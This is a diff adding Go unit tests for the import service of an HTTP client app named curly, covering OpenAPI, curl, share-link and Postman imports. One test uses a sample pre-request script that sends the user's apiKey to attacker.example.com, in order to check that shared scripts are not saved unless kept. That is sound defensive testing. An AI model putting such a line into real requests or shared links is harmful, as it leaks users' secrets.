@@ -0,0 +1,227 @@
+package app
+
+import (
+	"context"
+	"errors"
+	"log/slog"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/mock"
+	"github.com/stretchr/testify/require"
+	"github.com/williajm/curly/internal/domain"
+	"github.com/williajm/curly/internal/infrastructure/openapi"
+	"github.com/williajm/curly/internal/infrastructure/sharelink"
+)
+
+const importTestSpec = `
+openapi: 3.0.0
+info: {title: Todos}
+servers: [{url: "https://todo.example.com"}]
+paths:
+  /todos:
+    get: {summary: List todos}
+    post: {summary: Create todo}
+`
+
+func TestNewImportService_NilRepo(t *testing.T) {
+	assert.Panics(t, func() {
+		NewImportService(nil, slog.Default())
+	})
+}
+
+func TestImportService_ImportOpenAPI(t *testing.T) {
+	repo := new(MockRequestRepository)
+	repo.On("Create", mock.Anything, mock.MatchedBy(func(req *domain.Request) bool {
+		return req.Folder == "Todos" && req.URL == "https://todo.example.com/todos"
+	})).Return(nil).Twice()
+
+	requests, err := NewImportService(repo, slog.Default()).ImportOpenAPI(context.Background(), []byte(importTestSpec), openapi.Options{})
+	require.NoError(t, err)
+	require.Len(t, requests, 2)
+	assert.Equal(t, "List todos", requests[0].Name)
+	repo.AssertExpectations(t)
+}
+
+func TestImportService_ImportOpenAPI_ParseError(t *testing.T) {
+	repo := new(MockRequestRepository)
+
+	_, err := NewImportService(repo, slog.Default()).ImportOpenAPI(context.Background(), []byte("swagger: '1.0'"), openapi.Options{})
+	assert.ErrorContains(t, err, "failed to parse OpenAPI document")
+	repo.AssertNotCalled(t, "Create", mock.Anything, mock.Anything)
+}
+
+func TestImportService_ImportOpenAPI_CreateError(t *testing.T) {
+	repo := new(MockRequestRepository)
+	repo.On("Create", mock.Anything, mock.Anything).Return(errors.New("db error")).Once()
+
+	_, err := NewImportService(repo, slog.Default()).ImportOpenAPI(context.Background(), []byte(importTestSpec), openapi.Options{})
+	assert.ErrorContains(t, err, `failed to create request "List todos"`)
+	repo.AssertNumberOfCalls(t, "Create", 1)
+}
+
+const contractTestSpec = `
+openapi: 3.0.0
+info: {title: Todos}
+paths:
+  /todos/{id}:
+    get:
+      responses:
+        "200":
+          content:
+            application/json:
+              schema: {type: object}
+`
+
+func TestImportService_AttachContracts(t *testing.T) {
+	matched := domain.NewRequestWithMethodAndURL(domain.MethodGet, "https://todo.example.com/todos/7")
+	other := domain.NewRequestWithMethodAndURL(domain.MethodDelete, "https://todo.example.com/todos/7")
+
+	repo := new(MockRequestRepository)
+	repo.On("FindByFolder", mock.Anything, "Todos").Return([]*domain.Request{matched, other}, nil).Once()
+	repo.On("Update", mock.Anything, matched).Return(nil).Once()
+
+	result, err := NewImportService(repo, slog.Default()).AttachContracts(context.Background(), []byte(contractTestSpec), "")
+	require.NoError(t, err)
+	assert.Equal(t, []*domain.Request{matched}, result.Attached)
+	assert.Equal(t, []*domain.Request{other}, result.Unmatched)
+	assert.Contains(t, matched.ResponseContract, `"path":"/todos/{id}"`)
+	assert.Empty(t, other.ResponseContract)
+	repo.AssertExpectations(t)
+}
+
+func TestImportService_AttachContracts_Errors(t *testing.T) {
+	repo := new(MockRequestRepository)
+	_, err := NewImportService(repo, slog.Default()).AttachContracts(context.Background(), []byte("swagger: '1.0'"), "")
+	assert.ErrorContains(t, err, "failed to parse OpenAPI document")
+
+	repo.On("FindByFolder", mock.Anything, "todos").Return(nil, errors.New("db error")).Once()
+	_, err = NewImportService(repo, slog.Default()).AttachContracts(context.Background(), []byte(contractTestSpec), "todos")
+	assert.ErrorContains(t, err, `failed to list requests in folder "todos"`)
+}
+
+func TestImportService_ImportCurl(t *testing.T) {
+	repo := new(MockRequestRepository)
+	repo.On("Create", mock.Anything, mock.MatchedBy(func(req *domain.Request) bool {
+		return req.Method == domain.MethodPost && req.Folder == "pasted" && req.Body == "a=1"
+	})).Return(nil).Once()
+
+	result, err := NewImportService(repo, slog.Default()).ImportCurl(context.Background(), "curl -k -d a=1 https://api.example.com", "pasted")
+	require.NoError(t, err)
+	assert.Len(t, result.Warnings, 1)
+	repo.AssertExpectations(t)
+}
+
+func TestImportService_ImportCurl_Invalid(t *testing.T) {
+	tests := []struct {
+		name    string
+		command string
+		want    string
+	}{
+		{name: "parse error", command: "wget https://example.com", want: "failed to parse curl command"},
+		{name: "validation error", command: "curl -u ada https://example.com", want: "invalid request"},
+		{name: "unsupported scheme", command: "curl ftp://example.com/file", want: "invalid request"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			repo := new(MockRequestRepository)
+			_, err := NewImportService(repo, slog.Default()).ImportCurl(context.Background(), tt.command, "")
+			assert.ErrorContains(t, err, tt.want)
+			repo.AssertNotCalled(t, "Create", mock.Anything, mock.Anything)
+		})
+	}
+}
+
+func TestImportService_ImportLink(t *testing.T) {
+	shared := domain.NewRequestWithMethodAndURL(domain.MethodPost, "https://api.example.com/users")
+	shared.Headers["Authorization"] = "Bearer abc"
+	link, _, err := NewCodegenService(nil).ShareLink(shared, sharelink.Options{})
+	require.NoError(t, err)
+
+	repo := new(MockRequestRepository)
+	repo.On("Create", mock.Anything, mock.MatchedBy(func(req *domain.Request) bool {
+		return req.Method == domain.MethodPost && req.Folder == "pasted" && req.ID != shared.ID && len(req.Headers) == 0
+	})).Return(nil).Once()
+
+	result, err := NewImportService(repo, slog.Default()).ImportLink(context.Background(), link, "pasted", false)
+	require.NoError(t, err)
+	assert.Equal(t, []string{"header Authorization"}, result.Stripped)
+	repo.AssertExpectations(t)
+
+	_, err = NewImportService(repo, slog.Default()).ImportLink(context.Background(), "curl https://example.com", "", false)
+	assert.ErrorContains(t, err, "failed to parse share link")
+}
+
+func TestImportService_ImportLink_Scripts(t *testing.T) {
+	shared := domain.NewRequestWithMethodAndURL(domain.MethodGet, "https://api.example.com/users")
+	shared.PreRequestScript = `request.url = "https://attacker.example.com/?k=" + vars.get("apiKey");`
+	link, _, err := NewCodegenService(nil).ShareLink(shared, sharelink.Options{IncludeScripts: true})
+	require.NoError(t, err)
+
+	repo := new(MockRequestRepository)
+	var saved []*domain.Request
+	repo.On("Create", mock.Anything, mock.Anything).Run(func(args mock.Arguments) {
+		saved = append(saved, args.Get(1).(*domain.Request))
+	}).Return(nil)
+	service := NewImportService(repo, slog.Default())
+
+	parsed, err := service.ParseLink(link)
+	require.NoError(t, err)
+	assert.Equal(t, []string{"pre-request script"}, parsed.Scripts())
+
+	// Unless they are kept, the scripts are not saved.
+	_, err = service.ImportLink(context.Background(), link, "", false)
+	require.NoError(t, err)
+	_, err = service.ImportLink(context.Background(), link, "", true)
+	require.NoError(t, err)
+	require.Len(t, saved, 2)
+	assert.Empty(t, saved[0].PreRequestScript)
+	assert.Equal(t, shared.PreRequestScript, saved[1].PreRequestScript)
+}
+
+const importTestCollection = `{
+  "info": {"name": "Todos", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},
+  "item": [
+    {"name": "List todos", "request": {"method": "GET", "url": "https://todo.example.com/todos"}},
+    {"name": "Create todo", "event": [{"listen": "test"}], "request": {"method": "POST", "url": "https://todo.example.com/todos"}}
+  ]
+}`
+
+func TestImportService_ImportPostman(t *testing.T) {
+	repo := new(MockRequestRepository)
+	repo.On("Create", mock.Anything, mock.MatchedBy(func(req *domain.Request) bool {
+		return req.Folder == "Work" && req.URL == "https://todo.example.com/todos"
+	})).Return(nil).Twice()
+
+	result, err := NewImportService(repo, slog.Default()).ImportPostman(context.Background(), []byte(importTestCollection), "Work")
+	require.NoError(t, err)
+	require.Len(t, result.Requests, 2)
+	assert.Equal(t, "Create todo", result.Requests[1].Name)
+	assert.Equal(t, []string{"Work/Create todo: scripts are not imported"}, result.Warnings)
+	repo.AssertExpectations(t)
+}
+
+func TestImportService_ImportPostman_ParseError(t *testing.T) {
+	repo := new(MockRequestRepository)
+
+	_, err := NewImportService(repo, slog.Default()).ImportPostman(context.Background(), []byte(importTestSpec), "")
+	assert.ErrorContains(t, err, "failed to parse Postman collection")
+	repo.AssertNotCalled(t, "Create", mock.Anything, mock.Anything)
+}
+
+func TestImportService_CreateSamples(t *testing.T) {
+	repo := new(MockRequestRepository)
+	repo.On("Create", mock.Anything, mock.MatchedBy(func(req *domain.Request) bool {
+		return req.Folder == SamplesFolder
+	})).Return(nil)
+
+	requests, err := NewImportService(repo, slog.Default()).CreateSamples(context.Background())
+	require.NoError(t, err)
+	require.NotEmpty(t, requests)
+	for i, req := range requests {
+		assert.Equal(t, i, req.Position)
+		assert.NoError(t, req.Validate(), req.Name)
+	}
+	repo.AssertNumberOfCalls(t, "Create", len(requests))
+}